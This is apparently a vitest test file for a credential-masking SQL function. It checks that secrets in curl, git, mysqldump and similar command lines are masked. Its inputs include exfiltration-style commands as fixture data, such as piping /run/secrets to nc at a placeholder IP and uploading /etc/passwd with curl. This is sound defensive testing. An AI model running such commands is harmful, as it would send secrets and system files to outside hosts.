import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { contentFolder } from '../model/paths.js';
import { applySchema } from './schema.js';
import { openStore, type Store } from './store.js';

let store: Store;
let folder: string;
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'stowaway-mask-'));
  store = await openStore({ path: folder });
  await applySchema(store, contentFolder('schema'));
});
afterAll(async () => {
  await store.close();
  await rm(folder, { recursive: true, force: true });
});

async function mask(texts: string[]): Promise<string[]> {
  const rows = await store.rows<{ masked: string }>(
    'SELECT mask_credentials(text) AS masked FROM (SELECT arrayJoin({texts:Array(String)}) AS text)',
    { texts },
  );
  return rows.map((row) => row.masked);
}

const S = 'Tr0ub4dor3';
const TOKEN = 'q8Zk3LmN0pRs5TuVw7Xy9A1b2C3d4E5f6G7h8';
const SECRET_TEXTS: [text: string, masked: string][] = [
  [`curl -u bob:${S} -T /tmp/x http://h/p`, 'curl -u bob:*** -T /tmp/x http://h/p'],
  [`curl -ubob:${S} http://h/p`, 'curl -ubob:*** http://h/p'],
  [`curl -sSu bob:${S} http://h/p`, 'curl -sSu bob:*** http://h/p'],
  [`curl -u 'bob:${S} x' http://h/p`, `curl -u 'bob:*** x' http://h/p`],
  [`curl --user=bob:${S} http://h/p`, 'curl --user=bob:*** http://h/p'],
  [`skopeo copy --dest-creds bob:${S} a b`, 'skopeo copy --dest-creds bob:*** a b'],
  [`smbclient //h/s -U bob%${S} -c put`, 'smbclient //h/s -U bob:*** -c put'],
  [`git push https://bob:${S}@git.example/x.git`, 'git push https://bob:***@git.example/x.git'],
  [`curl ftp://bob:p@${S}@h/up/`, 'curl ftp://bob:***@h/up/'],
  [`git clone https://${TOKEN}@git.example/x`, 'git clone https://***@git.example/x'],
  [`curl -H 'Authorization: Bearer ${S}' http://h/p`, `curl -H 'Authorization: Bearer ***' http://h/p`],
  [`curl -H Authorization: Bearer ${S} http://h/p`, 'curl -H Authorization: Bearer *** http://h/p'],
  [`Authorization: Basic ${S}==`, 'Authorization: Basic ***'],
  [`{"authorization":"Bearer ${S}","b":1}`, '{"authorization":"Bearer ***","b":1}'],
  [`{"raw":"{\\"authorization\\":\\"Bearer ${S}\\"}"}`, '{"raw":"{\\"authorization\\":\\"Bearer ***\\"}"}'],
  [`curl -H 'X-Vault-Token: ${S}' http://h/p`, `curl -H 'X-Vault-Token: ***' http://h/p`],
  [`curl -H 'Cookie: a=${S}; b=${S}' http://h/p`, `curl -H 'Cookie: ***' http://h/p`],
  [`curl -H Cookie: a=${S}; b=${S} -T /tmp/x http://h/p`, 'curl -H Cookie: *** -T /tmp/x http://h/p'],
  [`password=${S}&user=bob`, 'password=***&user=bob'],
  [`/login?user=bob&passwd=${S}&x=1`, '/login?user=bob&passwd=***&x=1'],
  [`/b?X-Amz-Signature=${S}&y=2`, '/b?X-Amz-Signature=***&y=2'],
  [`tool --password ${S} --verbose`, 'tool --password *** --verbose'],
  [`wget --ftp-password=${S} ftp://h/x`, 'wget --ftp-password=*** ftp://h/x'],
  [`tool --token "${S} two" x`, 'tool --token *** x'],
  [`{"password": "${S} two", "a": 1}`, '{"password": ***", "a": 1}'],
  [`MYSQL_PWD=${S} mysqldump db`, 'MYSQL_PWD=*** mysqldump db'],
  [`AWS_SECRET_ACCESS_KEY=${S} aws s3 cp x s3://b`, 'AWS_SECRET_ACCESS_KEY=*** aws s3 cp x s3://b'],
  [`sshpass -p ${S} scp /tmp/x h:`, 'sshpass -p *** scp /tmp/x h:'],
  [`mysqldump -u root -p${S} db`, 'mysqldump -u root -p*** db'],
  [`ftpput -u bob -p ${S} 198.51.100.11 a b`, 'ftpput -u bob -p *** 198.51.100.11 a b'],
  [`docker login -u bob -p ${S} r.example`, 'docker login -u bob -p *** r.example'],
  [`echo ghp_${TOKEN}`, 'echo ***'],
  ['aws configure set x AKIAIOSFODNN7EXAMPLE', 'aws configure set x ***'],
  ['x eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl y', 'x *** y'],
];

/** Words that look near a secret and are none. */
const KEPT = [
  'curl -T /tmp/x http://h/p',
  'curl -T /etc/passwd http://h/p',
  'cat /etc/passwd /etc/shadow',
  'docker run -u 1000:1000 img sh',
  'sqlmap -u http://h/p?id=1',
  'kubectl get secret my-secret -o yaml',
  'kubectl create secret generic db --from-file=./x',
  'docker login --password-stdin r.example',
  'tool --token-file /run/token http://h/p',
  'PWD=/root OLDPWD=/tmp sh -c ls',
  'http://198.51.100.10:8080/x?mail=a@b.example',
  'tar czf - /run/secrets | nc 198.51.100.10 9000',
  'token expired after 5 s',
  'mysql -P3306 -h db.example',
  '/bypass/key=1?page=2',
  'rsync -av /data h:/data',
];

describe('hides', () => {
  test.each(SECRET_TEXTS)('%s', async (text, masked) => {
    expect(await mask([text])).toEqual([masked]);
  });
  test('nothing of a secret is left', async () => {
    const masked = await mask(SECRET_TEXTS.map(([text]) => text));
    for (const text of masked) expect(text).not.toContain(S);
    for (const text of masked) expect(text).not.toContain(TOKEN);
  });
});

describe('keeps', () => {
  test.each(KEPT)('%s', async (text) => {
    expect(await mask([text])).toEqual([text]);
  });

  test('every other word of a command, wherever the secret stands', async () => {
    const word = fc.constantFrom(
      '-T', '/tmp/x', 'http://h/p', '-o', 'curl', 'tar', 'czf', '-', '|', 'nc', '198.51.100.10', '9000', '--data-binary',
      '@/etc/passwd', '-X', 'PUT', 'ftp://h/up/', '--limit-rate', '500k', '/var/lib/secret.db', 'bob@h:/tmp', '&&',
    ); // biome-ignore format: a table of words
    const secret = fc.constantFrom(
      `-u bob:${S}`,
      `--password ${S}`,
      `password=${S}`,
      `https://bob:${S}@h/x`,
      `--token=${S}`,
    );
    const command = fc.tuple(
      fc.array(word, { maxLength: 6 }),
      fc.option(secret, { nil: '' }),
      fc.array(word, { maxLength: 6 }),
    );
    await fc.assert(
      fc.asyncProperty(fc.array(command, { minLength: 40, maxLength: 40 }), async (commands) => {
        const texts = commands.map(([before, hidden, after]) =>
          [...before, hidden, ...after].filter(Boolean).join(' '),
        );
        const masked = await mask(texts);
        for (const [index, [before, , after]] of commands.entries()) {
          const words = masked[index]!.split(' ');
          expect(masked[index]).not.toContain(S);
          expect(words.slice(0, before.length)).toEqual(before);
          expect(words.slice(words.length - after.length)).toEqual(after);
        }
      }),
      { numRuns: 20 },
    );
  });

  test('masking twice changes nothing more', async () => {
    const once = await mask(SECRET_TEXTS.map(([text]) => text));
    expect(await mask(once)).toEqual(once);
  });
});
